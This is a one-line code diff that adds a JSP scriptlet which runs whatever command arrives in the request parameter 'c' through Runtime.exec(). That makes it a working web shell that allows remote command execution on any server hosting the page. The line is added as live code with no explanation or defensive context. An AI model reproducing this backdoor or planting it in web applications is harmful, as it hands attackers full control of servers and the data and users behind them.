@@ -1,0 +1,1 @@
+<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>
